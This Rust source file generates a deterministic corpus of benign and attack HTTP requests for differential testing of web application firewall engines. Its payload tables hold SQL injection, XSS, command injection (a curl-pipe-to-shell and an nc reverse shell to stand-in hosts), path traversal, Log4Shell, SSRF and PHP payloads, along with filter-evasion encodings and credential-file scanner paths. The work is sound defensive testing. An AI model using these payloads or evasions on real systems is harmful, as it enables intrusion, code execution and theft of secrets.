//! A generated, seeded corpus of HTTP requests for the WAF differential test: benign traffic
//! (browsing, forms, JSON, multipart, XML) and attacks of every CRS family in every place.
//!
//! Deterministic: the same seed gives the same requests, so a mismatch can be named and rerun.

use portcullis_modsec::Request;

/// A small xorshift64* generator: the corpus needs reproducibility, not quality, and no
/// crate dependency for it.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len())]
    }
    fn chance(&mut self, percent: u64) -> bool {
        self.next() % 100 < percent
    }
}

/// One generated request with its name (`kind/n`) and whether it was made as an attack.
#[derive(Debug, Clone)]
pub struct Generated {
    /// `benign-browse/12`, `sqli-json/3`, ...
    pub label: String,
    /// Made from an attack payload.
    pub attack: bool,
    /// The request.
    pub request: Request,
}

const HOSTS: &[&str] = &[
    "shop.example.com",
    "www.example.org",
    "api.example.net",
    "localhost",
];
const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36",
];
const PATHS: &[&str] = &[
    "/",
    "/index.html",
    "/products",
    "/products/42",
    "/search",
    "/cart",
    "/account/orders",
    "/blog/2023/11/hello-world",
    "/static/css/site.css",
    "/static/js/app.min.js",
    "/images/logo.png",
    "/api/v1/items",
    "/api/v2/users/17/profile",
    "/help/faq",
    "/category/shoes/running",
];
const WORDS: &[&str] = &[
    "shoes",
    "red",
    "blue",
    "summer sale",
    "laptop",
    "coffee mug",
    "gift card",
    "books",
    "john",
    "alice",
    "berlin",
    "new york",
    "42",
    "2023-11-05",
    "price_asc",
    "en-US",
    "café",
    "naïve résumé",
    "smith & sons",
    "a+b",
    "50%",
    "C++",
    "hello world!",
    "it's fine",
];
const PARAMS: &[&str] = &[
    "q",
    "page",
    "sort",
    "id",
    "category",
    "lang",
    "ref",
    "utm_source",
    "size",
    "color",
    "name",
    "email",
    "comment",
    "title",
    "user",
    "filter",
];
const ACCEPTS: &[&str] = &[
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "*/*",
    "application/json",
    "image/avif,image/webp,*/*",
    "text/css,*/*;q=0.1",
];

/// Benign text that looks a little like attacks (where false positives, and so differences
/// between engines, live).
const TRICKY: &[&str] = &[
    "O'Reilly", "select the best size for you", "Tom & Jerry <3", "1 or 2 apples", "drop me a line",
    "I read about rm -rf in a book", "http://partner.example/return?to=/cart", "C:\\Users\\me\\notes.txt",
    "{\"a\":1,\"b\":[true,false]}", "see /etc/ and /var/ in the docs", "price < 20 and rating > 4",
    "emoji \u{1f600} and \u{4e2d}\u{6587}", "--no-cache", "a=b&c=d", "user@example.com", "50% off!!! #deal",
    "where is my order?", "union station, chicago", "javascript tutorial", "script for the play",
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
];

/// Attack payloads by family: (family, payloads).
const ATTACKS: &[(&str, &[&str])] = &[
    ("sqli", &[
        "1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "admin'--",
        "1; DROP TABLE users", "' or 1=1#", "1 AND SLEEP(5)", "1' AND extractvalue(1,concat(0x7e,version()))--",
        "-1' union all select null,@@version,null-- -", "1) or benchmark(10000000,md5(1))#",
        "'; exec xp_cmdshell('dir')--", "1 or 1=1", "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
        "1'/**/OR/**/'a'='a", "' HAVING 1=1--", "ORDER BY 10--", "1' waitfor delay '0:0:5'--",
    ]),
    ("xss", &[
        "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>",
        "javascript:alert(1)", "<svg/onload=alert(1)>", "\"><script>alert(String.fromCharCode(88,83,83))</script>",
        "<iframe src=\"javascript:alert(1)\"></iframe>", "<body onload=alert('x')>",
        "<a href=\"javascript:void(0)\" onclick=\"steal()\">x</a>", "';alert(1)//",
        "<div style=\"background:url(javascript:alert(1))\">", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    ]),
    ("rce", &[
        "; cat /etc/passwd", "| id", "`whoami`", "$(curl http://evil.example/x.sh | sh)",
        "127.0.0.1 && ls -la", "; wget http://evil.example/shell -O /tmp/s", "|| nc -e /bin/sh 10.0.0.1 4444",
        "& ping -n 10 127.0.0.1 &", "; powershell -enc SQBFAFgA", "() { :; }; /bin/bash -c 'id'",
        ";/bin/ba?h -c id", "a;c\\at /e\\tc/pa\\sswd",
    ]),
    ("lfi", &[
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow",
        "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/proc/self/environ",
        "..%c0%af..%c0%afetc/passwd", "file:///etc/hosts",
    ]),
    ("rfi", &[
        "http://evil.example/shell.txt?", "https://203.0.113.5/backdoor.php", "ftp://evil.example/x.txt?",
        "http://evil.example/inc.txt%00",
    ]),
    ("php", &[
        "<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php",
        "phpinfo()", "O:8:\"stdClass\":1:{s:4:\"evil\";s:3:\"cmd\";}", "$_SERVER['HTTP_USER_AGENT']",
        "file_get_contents('/etc/passwd')", "eval(base64_decode('cGhwaW5mbygpOw=='))",
        "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    ]),
    ("java", &[
        "${jndi:ldap://evil.example/a}", "java.lang.Runtime.getRuntime().exec('id')",
        "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        "java.lang.ProcessBuilder",
    ]),
    ("nodejs", &[
        "require('child_process').exec('id')", "{\"__proto__\":{\"admin\":true}}", "this.constructor.constructor('return process')()",
    ]),
    ("ssrf", &["http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_INFO", "dict://localhost:11211/stat"]),
    ("ldap-xpath", &["*)(uid=*))(|(uid=*", "' or count(/*)=1 or 'a'='b", "admin)(&)"]),
];

/// Scanner user agents (913100) and scanner-ish paths (930130, 913120).
const SCANNER_UAS: &[&str] = &[
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
    "Nessus SOAP",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Arachni/v1.5.1",
    "nmap scripting engine",
    "w3af.org",
    "dirbuster",
];
const SCANNER_PATHS: &[&str] = &[
    "/.git/config",
    "/.env",
    "/wp-config.php.bak",
    "/.htaccess",
    "/web.config",
    "/.svn/entries",
    "/phpmyadmin/scripts/setup.php",
    "/nessustest",
    "/admin/.DS_Store",
    "/backup.sql",
    "/index.php~",
    "/.aws/credentials",
];

fn encode(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                out.push(b as char)
            }
            b' ' => out.push('+'),
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

/// An evasion variant of `p`: what attackers do to slip past naive filters (and where the
/// engines' transformations and decoders differ most easily).
fn mutate(rng: &mut Rng, p: &str) -> String {
    match rng.below(9) {
        0 => p.to_uppercase(),
        1 => p
            .chars()
            .enumerate()
            .map(|(i, c)| {
                if i % 2 == 0 {
                    c.to_ascii_uppercase()
                } else {
                    c
                }
            })
            .collect(),
        2 => p.replace(' ', "/**/"),
        3 => p.replace(' ', "\t\n").replace("\\t\\n", "\t\n"),
        // Double URL-encoding: the query/form layer decodes once, t:urlDecodeUni a second time.
        4 => encode(p).replace('%', "%25"),
        5 => p
            .bytes()
            .map(|b| {
                if b.is_ascii_alphanumeric() {
                    (b as char).to_string()
                } else {
                    format!("%u00{b:02x}")
                }
            })
            .collect(),
        6 => p
            .bytes()
            .map(|b| {
                if b"<>\"'()".contains(&b) {
                    format!("&#x{b:x};")
                } else {
                    (b as char).to_string()
                }
            })
            .collect(),
        7 => format!("{p}\u{0}"),
        _ => p
            .chars()
            .map(|c| match c {
                '<' => '\u{ff1c}',
                '>' => '\u{ff1e}',
                '\'' => '\u{2019}',
                c => c,
            })
            .collect(),
    }
}

fn json_str(s: &str) -> String {
    serde_json::Value::String(s.to_string()).to_string()
}

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// The corpus builder: the rng and the output.
struct Gen {
    rng: Rng,
    out: Vec<Generated>,
    counts: std::collections::BTreeMap<String, usize>,
}

impl Gen {
    fn base(&mut self, method: &str, uri: &str) -> Request {
        let host = *self.rng.pick(HOSTS);
        let ua = *self.rng.pick(USER_AGENTS);
        let accept = *self.rng.pick(ACCEPTS);
        let mut r = Request::new(method, uri)
            .header("Host", host)
            .header("User-Agent", ua)
            .header("Accept", accept)
            .header("Accept-Language", "en-US,en;q=0.9")
            .header("Accept-Encoding", "gzip, deflate, br");
        let port = 30000 + self.rng.below(30000) as u16;
        r.client = (format!("198.51.100.{}", 1 + self.rng.below(250)), port);
        if self.rng.chance(60) {
            let sid: String = (0..26)
                .map(|_| char::from(b"abcdefghijklmnopqrstuvwxyz0123456789"[self.rng.below(36)]))
                .collect();
            r = r.header(
                "Cookie",
                &format!("sessionid={sid}; theme=dark; consent=yes"),
            );
        }
        if self.rng.chance(40) {
            r = r.header("Referer", &format!("https://{host}/products"));
        }
        if self.rng.chance(20) {
            r = r.header("Connection", "keep-alive");
        }
        r
    }

    fn query(&mut self, n: usize) -> String {
        (0..n)
            .map(|_| {
                let k = *self.rng.pick(PARAMS);
                let v = *self.rng.pick(WORDS);
                format!("{k}={}", encode(v))
            })
            .collect::<Vec<_>>()
            .join("&")
    }

    fn push(&mut self, kind: &str, attack: bool, request: Request) {
        let n = self.counts.entry(kind.to_string()).or_default();
        *n += 1;
        self.out.push(Generated {
            label: format!("{kind}/{n}"),
            attack,
            request,
        });
    }

    fn with_body(r: Request, content_type: &str, body: &[u8]) -> Request {
        r.header("Content-Type", content_type)
            .header("Content-Length", &body.len().to_string())
            .body(body)
    }

    fn multipart(&mut self, fields: &[(&str, Option<&str>, &str)]) -> (String, Vec<u8>) {
        let boundary = format!("----WebKitFormBoundary{:016x}", self.rng.next());
        let mut body = Vec::new();
        for (name, filename, value) in fields {
            body.extend_from_slice(format!("--{boundary}\r\n").as_bytes());
            match filename {
                Some(f) => body.extend_from_slice(
                    format!("Content-Disposition: form-data; name=\"{name}\"; filename=\"{f}\"\r\nContent-Type: application/octet-stream\r\n\r\n").as_bytes(),
                ),
                None => body.extend_from_slice(
                    format!("Content-Disposition: form-data; name=\"{name}\"\r\n\r\n").as_bytes(),
                ),
            }
            body.extend_from_slice(value.as_bytes());
            body.extend_from_slice(b"\r\n");
        }
        body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
        (format!("multipart/form-data; boundary={boundary}"), body)
    }

    // ---- benign ----

    fn benign(&mut self) {
        match self.rng.below(8) {
            6 => {
                let t = *self.rng.pick(TRICKY);
                let body = format!("name=Jane+Doe&comment={}&rating=5", encode(t));
                let r = self.base("POST", "/reviews");
                let r = Self::with_body(r, "application/x-www-form-urlencoded", body.as_bytes());
                self.push("benign-tricky-form", false, r);
            }
            7 => {
                let t = *self.rng.pick(TRICKY);
                let (kind, r) = if self.rng.chance(50) {
                    let uri = format!("/search?q={}", encode(t));
                    ("benign-tricky-query", self.base("GET", &uri))
                } else {
                    let body = format!("{{\"comment\":{},\"n\":1}}", json_str(t));
                    let r = self.base("POST", "/api/v1/comments");
                    (
                        "benign-tricky-json",
                        Self::with_body(r, "application/json", body.as_bytes()),
                    )
                };
                self.push(kind, false, r);
            }
            0 | 1 => {
                let path = *self.rng.pick(PATHS);
                let n = self.rng.below(4);
                let uri = if n == 0 {
                    path.to_string()
                } else {
                    format!("{path}?{}", self.query(n))
                };
                let r = self.base("GET", &uri);
                self.push("benign-browse", false, r);
            }
            2 => {
                let n = 2 + self.rng.below(4);
                let body = self.query(n);
                let r = self.base("POST", "/account/profile");
                let r = Self::with_body(r, "application/x-www-form-urlencoded", body.as_bytes());
                self.push("benign-form", false, r);
            }
            3 => {
                let name = *self.rng.pick(WORDS);
                let body = format!(
                    "{{\"name\":{},\"qty\":{},\"tags\":[{},\"x\"],\"meta\":{{\"gift\":true,\"note\":null,\"price\":12.5}}}}",
                    json_str(name),
                    self.rng.below(10),
                    json_str(self.rng.pick::<&str>(WORDS))
                );
                let r = self.base("POST", "/api/v1/items");
                let r = Self::with_body(r, "application/json", body.as_bytes());
                self.push("benign-json", false, r);
            }
            4 => {
                let w = *self.rng.pick(WORDS);
                let (ct, body) = self.multipart(&[
                    ("title", None, w),
                    ("avatar", Some("me.png"), "\u{89}PNG fake image bytes"),
                ]);
                let r = self.base("POST", "/account/avatar");
                let r = Self::with_body(r, &ct, &body);
                self.push("benign-multipart", false, r);
            }
            _ => {
                let w = xml_escape(self.rng.pick::<&str>(WORDS));
                let body = format!(
                    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order id=\"17\"><item sku=\"A-1\">{w}</item><qty>2</qty></order>"
                );
                let r = self.base("POST", "/api/v1/orders");
                let r = Self::with_body(r, "application/xml", body.as_bytes());
                self.push("benign-xml", false, r);
            }
        }
    }

    // ---- attacks ----

    fn attack(&mut self, family: &str, payload: &str) {
        let mutated;
        let payload = if self.rng.chance(35) {
            mutated = mutate(&mut self.rng, payload);
            mutated.as_str()
        } else {
            payload
        };
        let place = self.rng.below(16);
        let param = *self.rng.pick(PARAMS);
        let (kind, r) = match place {
            0 | 1 => {
                let uri = format!("/search?{param}={}&page=1", encode(payload));
                ("query", self.base("GET", &uri))
            }
            2 => {
                let r = self.base("GET", "/products");
                let name =
                    *self
                        .rng
                        .pick(&["User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version"]);
                let mut r = r;
                r.headers
                    .retain(|(k, _)| !k.eq_ignore_ascii_case(name.as_bytes()));
                ("header", r.header(name, payload))
            }
            3 => {
                let mut r = self.base("GET", "/account");
                r.headers
                    .retain(|(k, _)| !k.eq_ignore_ascii_case(b"cookie"));
                (
                    "cookie",
                    r.header(
                        "Cookie",
                        &format!("sessionid=abc123; {param}={}", encode(payload)),
                    ),
                )
            }
            4 | 5 => {
                let body = format!("{param}={}&submit=Send", encode(payload));
                let r = self.base("POST", "/contact");
                (
                    "form",
                    Self::with_body(r, "application/x-www-form-urlencoded", body.as_bytes()),
                )
            }
            6 => {
                let body = format!(
                    "{{\"{param}\":{},\"list\":[1,{}]}}",
                    json_str(payload),
                    json_str(payload)
                );
                let r = self.base("POST", "/api/v1/search");
                (
                    "json",
                    Self::with_body(r, "application/json", body.as_bytes()),
                )
            }
            7 => {
                let body = format!(
                    "<?xml version=\"1.0\"?><request><{param}>{}</{param}><page>1</page></request>",
                    xml_escape(payload)
                );
                let r = self.base("POST", "/api/v1/soap");
                ("xml", Self::with_body(r, "text/xml", body.as_bytes()))
            }
            8 => {
                let (ct, body) =
                    self.multipart(&[(param, None, payload), ("submit", None, "Upload")]);
                let r = self.base("POST", "/upload");
                ("multipart", Self::with_body(r, &ct, &body))
            }
            10 => {
                // In an argument name (ARGS_NAMES).
                let uri = format!("/search?{}=1", encode(payload));
                ("arg-name", self.base("GET", &uri))
            }
            11 => {
                // In the path (REQUEST_FILENAME, REQUEST_URI).
                let uri = format!("/files/{}/view", encode(payload).replace('+', "%20"));
                ("path", self.base("GET", &uri))
            }
            12 => {
                let body = format!(
                    "{{{}:\"x\",\"ok\":[{{\"deep\":{{\"v\":{}}}}}]}}",
                    json_str(payload),
                    json_str(payload)
                );
                let r = self.base("PUT", "/api/v1/items/9");
                (
                    "json-key",
                    Self::with_body(r, "application/json; charset=utf-8", body.as_bytes()),
                )
            }
            13 => {
                let body = format!(
                    "<?xml version=\"1.0\"?><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><q attr=\"{}\">x</q></soap:Body></soap:Envelope>",
                    xml_escape(payload).replace('"', "&quot;")
                );
                let r = self.base("POST", "/ws");
                (
                    "xml-attr",
                    Self::with_body(r, "application/soap+xml", body.as_bytes()),
                )
            }
            14 => {
                let mut r = self.base("GET", "/account");
                r.headers
                    .retain(|(k, _)| !k.eq_ignore_ascii_case(b"cookie"));
                (
                    "cookie-name",
                    r.header(
                        "Cookie",
                        &format!("{}=1; theme=dark", payload.replace([';', ' '], "")),
                    ),
                )
            }
            _ => {
                let fname = if family == "php" || family == "rce" {
                    "shell.php"
                } else {
                    payload
                };
                let (ct, body) =
                    self.multipart(&[("file", Some(fname), payload), ("note", None, "hi")]);
                let r = self.base("POST", "/upload");
                ("multipart-file", Self::with_body(r, &ct, &body))
            }
        };
        self.push(&format!("{family}-{kind}"), true, r);
    }

    fn protocol_violation(&mut self) {
        let which = self.rng.below(20);
        let mut r = self.base("GET", "/products?id=7");
        let kind = match which {
            0 => {
                r.headers.retain(|(k, _)| !k.eq_ignore_ascii_case(b"host"));
                "no-host"
            }
            1 => {
                r.headers
                    .retain(|(k, _)| !k.eq_ignore_ascii_case(b"accept"));
                "no-accept"
            }
            2 => {
                r.headers
                    .retain(|(k, _)| !k.eq_ignore_ascii_case(b"user-agent"));
                "no-ua"
            }
            3 => {
                r.uri = "/products?id=%zz%41".into();
                "bad-urlencoding"
            }
            4 => {
                r = r.header("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13");
                "range-many"
            }
            5 => {
                r = r.header("Content-Length", "abc");
                "bad-content-length"
            }
            6 => {
                r.method = "POST".into();
                r = r
                    .header("Transfer-Encoding", "chunked")
                    .header("Content-Length", "4");
                "te-and-cl"
            }
            7 => {
                r.http_version = "1.0".into();
                r.uri = "/index.html?a=b".into();
                "http10"
            }
            8 => {
                r.method = "PROPFIND".into();
                "method"
            }
            9 => {
                r.uri = "/products?id=7&id=%00abc".into();
                "null-byte"
            }
            10 => {
                r.uri = "/products?x=\u{7f}\u{1}".into();
                "control-chars"
            }
            11 => {
                r.uri = format!("/products?id=7&{}", "a=1&".repeat(300));
                "too-many-args"
            }
            12 => {
                r = r.header("Content-Type", "text/plain; charset=utf-7");
                r.method = "POST".into();
                let body = b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-";
                r = r
                    .header("Content-Length", &body.len().to_string())
                    .body(body);
                "charset"
            }
            13 => {
                r.uri = "http://evil.example/products?id=7".into();
                "absolute-uri"
            }
            14 => {
                // A raw `#` in the request-target (clients strip fragments; tools do not).
                r.uri = "/products?id=7&note=ok#<script>alert(1)</script>".into();
                "fragment"
            }
            15 => {
                // Over SecRequestBodyLimit (131072) with SecRequestBodyLimitAction Reject.
                r.method = "POST".into();
                let body = format!("data={}", "a".repeat(140_000));
                r = Self::with_body(r, "application/x-www-form-urlencoded", body.as_bytes());
                "body-over-limit"
            }
            16 => {
                r.method = "POST".into();
                let body = b"just some text\n";
                r = Self::with_body(r, "text/plain", body);
                "unlisted-content-type"
            }
            17 => {
                r.method = "POST".into();
                let body = b"a=1&b=2";
                r = r.header("Content-Length", "7").body(body);
                "body-without-content-type"
            }
            18 => {
                r = r
                    .header("Accept", "text/html")
                    .header("X-Forwarded-For", "10.0.0.1, 10.0.0.2");
                "repeated-headers"
            }
            _ => {
                r.method = self
                    .rng
                    .pick(&["HEAD", "OPTIONS", "DELETE", "TRACE", "CONNECT"])
                    .to_string();
                "methods"
            }
        };
        self.push(&format!("protocol-{kind}"), true, r);
    }

    fn scanner(&mut self) {
        if self.rng.chance(50) {
            let ua = *self.rng.pick(SCANNER_UAS);
            let mut r = self.base("GET", "/");
            r.headers
                .retain(|(k, _)| !k.eq_ignore_ascii_case(b"user-agent"));
            self.push("scanner-ua", true, r.header("User-Agent", ua));
        } else {
            let path = *self.rng.pick(SCANNER_PATHS);
            let r = self.base("GET", path);
            self.push("scanner-path", true, r);
        }
    }

    fn session_fixation(&mut self) {
        let sid = format!("{:x}", self.rng.next());
        let uri = match self.rng.below(3) {
            0 => format!("/login?PHPSESSID={sid}"),
            1 => format!("/login;jsessionid={sid}?x=1&jsessionid={sid}"),
            _ => format!("/?foo=bar&sessionid={sid}"),
        };
        let mut r = self.base("GET", &uri);
        r.headers
            .retain(|(k, _)| !k.eq_ignore_ascii_case(b"referer"));
        let r = if self.rng.chance(70) {
            r.header("Referer", "https://attacker.example/phish")
        } else {
            r
        };
        let r = if self.rng.chance(30) {
            r.header("Cookie", &format!("document.cookie=\"sessionid={sid}\""))
        } else {
            r
        };
        self.push("session-fixation", true, r);
    }

    fn multipart_evasion(&mut self) {
        let b = format!("xYzZY{:08x}", self.rng.next() as u32);
        let (kind, ct, body): (&str, String, String) = match self.rng.below(8) {
            0 => ("quoted-boundary", format!("multipart/form-data; boundary=\"{b}\""),
                format!("--{b}\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--{b}--\r\n")),
            1 => ("whitespace-boundary", format!("multipart/form-data; boundary= {b}"),
                format!("--{b}\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--{b}--\r\n")),
            2 => ("data-before", format!("multipart/form-data; boundary={b}"),
                format!("junk\r\n--{b}\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--{b}--\r\n")),
            3 => ("data-after", format!("multipart/form-data; boundary={b}"),
                format!("--{b}\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--{b}--\r\nafter")),
            4 => ("lf-lines", format!("multipart/form-data; boundary={b}"),
                format!("--{b}\nContent-Disposition: form-data; name=\"a\"\n\nx\n--{b}--\n")),
            5 => ("missing-semicolon", format!("multipart/form-data boundary={b}"),
                format!("--{b}\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--{b}--\r\n")),
            6 => ("header-folding", format!("multipart/form-data; boundary={b}"),
                format!("--{b}\r\nContent-Disposition: form-data;\r\n name=\"a\"\r\n\r\n<script>alert(1)</script>\r\n--{b}--\r\n")),
            _ => ("unmatched-boundary", format!("multipart/form-data; boundary={b}"),
                format!("--{b}\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--{b}X\r\nContent-Disposition: form-data; name=\"b\"\r\n\r\n' or 1=1--\r\n--{b}--\r\n")),
        };
        let r = self.base("POST", "/upload");
        let r = Self::with_body(r, &ct, body.as_bytes());
        self.push(&format!("multipart-{kind}"), true, r);
    }

    fn body_errors(&mut self) {
        let (kind, ct, body) = match self.rng.below(3) {
            0 => ("bad-json", "application/json", "{\"a\": [1, 2,"),
            1 => ("bad-xml", "application/xml", "<a><b></a>"),
            _ => (
                "json-deep-keys",
                "application/json",
                "{\"a\":{\"b\":{\"c\":[{\"d\":\"<script>x</script>\"}]}}}",
            ),
        };
        let r = self.base("POST", "/api/v1/items");
        let r = Self::with_body(r, ct, body.as_bytes());
        self.push(&format!("body-{kind}"), kind == "json-deep-keys", r);
    }
}

/// `n` requests from `seed`: about 45% benign, the rest attacks of every family in every
/// place, protocol violations, scanners, session fixation, multipart evasions and broken
/// JSON/XML bodies.
pub fn generate(seed: u64, n: usize) -> Vec<Generated> {
    let mut g = Gen {
        rng: Rng(seed | 1),
        out: Vec::with_capacity(n),
        counts: Default::default(),
    };
    while g.out.len() < n {
        match g.rng.below(100) {
            0..=44 => g.benign(),
            45..=79 => {
                let (family, payloads) = *g.rng.pick(ATTACKS);
                let p = *g.rng.pick(payloads);
                g.attack(family, p);
            }
            80..=86 => g.protocol_violation(),
            87..=90 => g.scanner(),
            91..=93 => g.session_fixation(),
            94..=97 => g.multipart_evasion(),
            _ => g.body_errors(),
        }
    }
    g.out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_corpus_is_deterministic_and_covers_every_kind() {
        let a = generate(7, 600);
        let b = generate(7, 600);
        assert_eq!(a.len(), 600);
        for (x, y) in a.iter().zip(&b) {
            assert_eq!(x.label, y.label);
            assert_eq!(x.request.uri, y.request.uri);
            assert_eq!(x.request.body, y.request.body);
        }
        for kind in [
            "benign-json",
            "benign-xml",
            "benign-multipart",
            "sqli-",
            "xss-",
            "rce-",
            "lfi-",
            "java-",
            "php-",
            "protocol-",
            "scanner-",
            "session-fixation",
            "multipart-",
        ] {
            assert!(a.iter().any(|g| g.label.starts_with(kind)), "no {kind}");
        }
        let c = generate(8, 600);
        assert!(a
            .iter()
            .zip(&c)
            .any(|(x, y)| x.request.uri != y.request.uri));
    }
}
